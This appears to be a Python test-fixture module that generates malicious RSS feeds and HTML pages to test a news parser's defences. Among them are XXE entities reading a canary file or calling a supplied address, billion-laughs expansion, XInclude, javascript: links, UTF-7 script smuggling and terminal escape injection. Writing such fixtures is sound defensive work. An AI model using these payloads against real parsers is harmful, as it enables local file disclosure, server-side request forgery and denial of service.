"""Feeds and pages made to do harm. `canary` is a file that none may bring in, `address` a server that none may ask."""

from __future__ import annotations

import json
from typing import Final

from text import TEXT

DEEP: Final = 100_000


def rss(inside: str, *, before: str = "") -> bytes:
    return f'<?xml version="1.0"?>{before}<rss version="2.0"><channel>{inside}</channel></rss>'.encode()


def _item(title: str = "A", link: str = "", text: str = "") -> str:
    return f"<item><title>{title}</title><link>{link}</link><description>{text or TEXT * 4}</description></item>"


def feeds(canary: str, address: str) -> dict[str, bytes]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    links = [
        "javascript:alert(1)",
        f"file://{canary}",
        "data:text/html,x",
        address,
        f"{address}@news.example/",
        "//",
        "http://[",
        "http://a.example/\u202ex",
    ]
    made = {
        "entity-file": rss(_item("&x;", text="&x;"), before=f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{canary}">]>'),
        "entity-http": rss(_item("&x;"), before=f'<!DOCTYPE r [<!ENTITY x SYSTEM "{address}/x">]>'),
        "entity-parameter": rss(_item(), before=f'<!DOCTYPE r [<!ENTITY % x SYSTEM "{address}/x"> %x;]>'),
        "dtd-elsewhere": rss(_item(), before=f'<!DOCTYPE rss SYSTEM "{address}/x.dtd">'),
        "laughs": rss(_item("&l11;"), before=f'<!DOCTYPE r [<!ENTITY l0 "ha">{laughs}]>'),
        "quadratic": rss(_item("&a;" * 20_000), before=f'<!DOCTYPE r [<!ENTITY a "{"a" * 20_000}">]>'),
        "stylesheet": rss(_item(), before=f'<?xml-stylesheet href="{address}/x.xsl" type="text/xsl"?>'),
        "include": rss(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{canary}" parse="text"/>'),
        "deep": rss("<a>" * 20_000),
        "many": rss(_item() * 3000),
        "comments": b"<!-- -->" * 2000 + b"rss",
        "doctypes": b"<!DOCTYPE a [ ] >" * 1000 + b"rss",
        "instructions": b"<?a b?>" * 2000 + b"x",
        "rot13": rss(_item()).replace(b'"1.0"', b'"1.0" encoding="rot13"'),
        "utf-7": rss(_item("+ADw-script+AD4-")).replace(b'"1.0"', b'"1.0" encoding="utf-7"'),
        "zeros": rss(_item()).replace(b"bridge", b"br\0idge"),
        "html-inside": rss(
            _item(text=f"&lt;script src={address}/x&gt;&lt;/script&gt;&lt;img src={address}/i&gt;" + TEXT * 5)
        ),
        "no-end": rss(_item())[:-30],
        "atom-source": f'<feed xmlns="http://www.w3.org/2005/Atom"><entry><content src="file://{canary}"/></entry></feed>'.encode(),
        "base": rss(_item(link="x")).replace(b"<rss", f'<rss xml:base="file://{canary}"'.encode()),
        "dates": rss(_item() + "<pubDate>" + "9" * 9000 + "</pubDate>"),
    }
    made |= {f"link-{number}": rss(_item(link=link, text="Read more")) for number, link in enumerate(links)}
    return {f"feed-{name}": data for name, data in made.items()}


def _page(head: str = "", body: str = "") -> bytes:
    return f"<!DOCTYPE html><html><head><title>T</title>{head}</head><body>{body}<p>{TEXT}</p></body></html>".encode()


def _ld(data: str) -> str:
    return f'<script type="application/ld+json">{data}</script>'


def pages(canary: str, address: str) -> dict[str, bytes]:
    tags = ["div", "table", "b", "blockquote", "li", "font", "svg", "span", "figure", "template"]
    made = {f"deep-{tag}": _page(body=f"<{tag}>" * 30_000) for tag in tags}
    made |= {
        "entity": b"<!DOCTYPE html [<!ENTITY x SYSTEM 'file://" + canary.encode() + b"'>]>" + _page(body="&x;"),
        "fetches": _page(
            f'<link rel="canonical" href="file://{canary}"><base href="file://{canary}/">'
            f'<link rel="stylesheet" href="{address}/a">'
            f'<meta http-equiv="refresh" content="0;url={address}/b">',
            f'<img src="{address}/c"><iframe src="file://{canary}"></iframe><object data="{address}/d"></object>',
        ),
        "comment": _page(body="<!--" * 20_000),
        "comments": b"<!-- -->" * 2000 + b"html",
        "script": _page("<script>" + "x" * 100_000),
        "attribute": _page(body=f'<p class="{"a " * 200_000}">'),
        "attributes": _page(body="<p " + " ".join(f"a{n}=1" for n in range(20_000)) + ">"),
        "boxes": _page(body=f'<div class="{"news-" * 20_000}letter">x</div>'),
        "numbers": _page(body="<p>&#0;&#x110000;&#xD800;&#99999999999999;&#27;]0;x</p>"),
        "elements": _page(body="<p>a" * 50_000),
        "tables": _page(body="<table><tr><td><p>a</table>" * 900),
        "utf-7": _page('<meta charset="utf-7">'),
        "utf-16": _page('<meta charset="utf-16">'),
        "nonsense": _page('<meta charset="' + "x" * 5000 + '">'),
        "zeros": _page(body="\0" * 5000),
        "ld-deep": _page(_ld("[" * DEEP)),
        "ld-objects": _page(_ld('{"a":' * 5000 + "1" + "}" * 5000)),
        "ld-many": _page(_ld(json.dumps([{"@type": "NewsArticle", "author": [{"name": "a" * 9}] * 5000}]))),
        "ld-types": _page(
            _ld('{"@type":["NewsArticle",1,null,{}],"headline":{"a":1},"author":[[1]],"datePublished":[2]}')
        ),
        "ld-number": _page(_ld('{"@type":"NewsArticle","headline":' + "9" * 6000 + "}")),
        "ld-control": _page(_ld('{"@type":"NewsArticle","headline":"a\\u001b]0;pwned\\u0007\\nb","author":"\\ud800"}')),
        "meta-control": _page('<meta property="og:title" content="a&#27;[31m&#10;b">'),
        "date": _page('<meta property="article:published_time" content="' + "2026-" * 5000 + '">'),
        "early": _page('<meta property="article:published_time" content="0001-01-01T00:00:00+14:00">'),
        "late": _page('<meta property="article:published_time" content="9999-12-31T23:59:59-14:00">'),
        "cut": _page()[:60],
        "tags": b"<" * 200_000,
        "refuses": b"<html>" + b"\xff\xfe\x00" * 9000,
    }
    return {f"page-{name}": data for name, data in made.items()}
